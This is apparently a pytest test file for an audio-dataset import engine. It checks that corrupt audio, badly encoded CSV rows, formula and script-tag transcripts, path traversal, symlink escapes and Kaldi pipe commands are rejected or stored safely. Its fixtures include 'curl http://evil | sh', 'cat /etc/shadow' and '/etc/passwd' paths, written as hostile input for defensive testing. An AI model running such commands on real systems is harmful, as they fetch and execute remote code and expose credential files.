"""Hostile and broken input: every bad file or row is rejected with a reason; the rest imports."""

from __future__ import annotations

import os
from pathlib import Path

import numpy as np
import pytest
import soundfile as sf
from sqlalchemy import select

from tests.conftest import write_audio
from voxcart.datasets.errors import ManifestError
from voxcart.datasets.ingest.engine import ImportReport, import_source
from voxcart.datasets.store.project import Project
from voxcart.datasets.store.schema import Clip, Recording, Revision


def _reasons(report: ImportReport) -> dict[str, str]:
    return {Path(r.path).name: f"{r.code}: {r.reason}" for r in report.rejections}


def test_broken_files_are_rejected_and_good_ones_import(project: Project, tmp_path: Path) -> None:
    src = tmp_path / "src"
    good = write_audio(src / "good.wav", seconds=0.5)
    whole = good.read_bytes()
    (src / "corrupt.wav").write_bytes(os.urandom(2000))
    (src / "header_only.wav").write_bytes(whole[:44])
    (src / "truncated.wav").write_bytes(whole[: len(whole) // 2])
    (src / "empty.wav").write_bytes(b"")
    sf.write(src / "zero.wav", np.zeros((0, 1), dtype=np.float32), 16_000)
    write_audio(src / "silent.flac", seconds=0.5, kind="silence")
    write_audio(src / "tiny.wav", seconds=0.02, seed=5)
    (src / "voice.m4a").write_bytes(b"\x00\x00\x00\x20ftypM4A ")
    report = import_source(project, src)
    assert report.imported == 1
    reasons = _reasons(report)
    assert reasons["corrupt.wav"].startswith("unreadable")
    assert "truncated" in reasons["header_only.wav"] or "zero-length" in reasons["header_only.wav"]
    assert "truncated" in reasons["truncated.wav"]
    assert "empty file" in reasons["empty.wav"]
    assert "zero-length" in reasons["zero.wav"]
    assert reasons["silent.flac"].startswith("silence")
    assert reasons["tiny.wav"].startswith("too_short")
    assert "M4A" in reasons["voice.m4a"]


@pytest.mark.parametrize(
    ("sr", "channels", "subtype"),
    [
        (8_000, 1, "PCM_16"),
        (44_100, 1, "PCM_16"),
        (48_000, 2, "PCM_16"),
        (16_000, 6, "PCM_16"),
        (16_000, 1, "FLOAT"),
        (22_050, 1, "PCM_24"),
    ],
)
def test_any_rate_channels_and_depth_are_stored_as_is(
    project: Project, tmp_path: Path, sr: int, channels: int, subtype: str
) -> None:
    path = write_audio(tmp_path / "a.wav", seconds=0.5, sr=sr, channels=channels, subtype=subtype)
    report = import_source(project, path)
    assert report.imported == 1, report.summary()
    with project.session() as session:
        rec = session.scalars(select(Recording)).one()
    assert (rec.sample_rate, rec.channels, rec.subtype, rec.num_frames) == (
        sr,
        channels,
        subtype,
        sr // 2,
    )


def test_non_utf8_csv_rows_are_rejected_alone(project: Project, tmp_path: Path) -> None:
    write_audio(tmp_path / "a.wav", seconds=0.5, seed=1)
    write_audio(tmp_path / "b.wav", seconds=0.5, seed=2)
    body = (
        "path,text\na.wav,caf\u00e9 ok\n".encode()
        + "b.wav,na\u00efve \u201cquote\u201d\n".encode("cp1252")
    )
    (tmp_path / "m.csv").write_bytes(body + b"b.wav,bin\x00ary\n")
    report = import_source(project, tmp_path / "m.csv")
    # The cp1252 row is rejected; the NUL is removed from the transcript and reported.
    assert (report.imported, report.rejected, report.changed) == (2, 1, 1)
    assert all("UTF-8" in r.reason for r in report.rejections)
    assert "U+0000 (NUL)" in report.changes[0].reason
    with project.session() as session:
        texts = set(session.scalars(select(Revision.verbatim)))
    assert texts == {"caf\u00e9 ok", "binary"}


def test_binary_garbage_manifest_is_a_clear_error(project: Project, tmp_path: Path) -> None:
    (tmp_path / "m.csv").write_bytes(bytes(range(256)) * 4)
    with pytest.raises(ManifestError, match=r"UTF-8|path column"):
        import_source(project, tmp_path / "m.csv")
    (tmp_path / "w.csv").write_bytes("chemin,texte\n".encode("cp1252") + b"\x93x\x94,y\n")
    with pytest.raises(ManifestError, match="no audio path column"):
        import_source(project, tmp_path / "w.csv")


def test_formula_and_html_transcripts_are_stored_verbatim(project: Project, tmp_path: Path) -> None:
    hostile = [
        '=HYPERLINK("http://x","click")',
        "<script>alert(1)</script> red shoes",
        "+1-2",
        "@SUM(A1)",
    ]
    lines = ["path,text"]
    for i, text in enumerate(hostile):
        write_audio(tmp_path / f"{i}.wav", seconds=0.4, seed=i)
        lines.append(f'{i}.wav,"{text.replace(chr(34), chr(34) * 2)}"')
    (tmp_path / "m.csv").write_text("\n".join(lines) + "\n")
    report = import_source(project, tmp_path / "m.csv")
    assert report.imported == 4
    with project.session() as session:
        stored = list(session.scalars(select(Revision.verbatim).order_by(Revision.id)))
    assert stored == hostile


def test_path_traversal_absolute_and_symlink_escapes(project: Project, tmp_path: Path) -> None:
    manifests, secret = tmp_path / "manifests", tmp_path / "secret"
    write_audio(manifests / "ok.wav", seconds=0.5, seed=1)
    outside = write_audio(secret / "private.wav", seconds=0.5, seed=2)
    os.symlink(outside, manifests / "link.wav")
    (manifests / "m.csv").write_text(
        f"path\nok.wav\n../../etc/passwd\n/etc/passwd\n{outside}\nlink.wav\nmissing.wav\nok.wav\n"
    )
    report = import_source(project, manifests / "m.csv")
    assert (report.imported, report.duplicates) == (1, 1)
    codes = sorted(r.code for r in report.rejections)
    assert codes == ["missing", "unsafe_path", "unsafe_path", "unsafe_path", "unsafe_path"]
    allowed = import_source(project, manifests / "m.csv", allowed_roots=[secret])
    assert allowed.imported == 1  # private.wav (direct and via the link: the same audio)
    with project.session() as session:
        paths = {c.recording.source_path for c in session.scalars(select(Clip))}
    assert str(outside.resolve()) in paths and "/etc/passwd" not in paths


def test_symlink_escaping_a_folder_import(project: Project, tmp_path: Path) -> None:
    outside = write_audio(tmp_path / "secret" / "x.wav", seconds=0.5)
    write_audio(tmp_path / "src" / "in.wav", seconds=0.5, seed=3)
    os.symlink(outside, tmp_path / "src" / "escape.wav")
    report = import_source(project, tmp_path / "src")
    assert report.imported == 1 and report.rejections[0].code == "unsafe_path"
    assert import_source(project, tmp_path / "src", allow_outside=True).imported == 1


def test_kaldi_pipe_commands_are_refused(project: Project, tmp_path: Path) -> None:
    write_audio(tmp_path / "a.flac", seconds=0.5)
    (tmp_path / "wav.scp").write_text(
        "r1 flac -c -d -s a.flac |\nr2 curl http://evil | sh |\nr3 cat /etc/shadow |\n"
    )
    report = import_source(project, tmp_path)
    assert report.imported == 1 and report.rejected == 2
    assert all("command pipe" in r.reason for r in report.rejections)
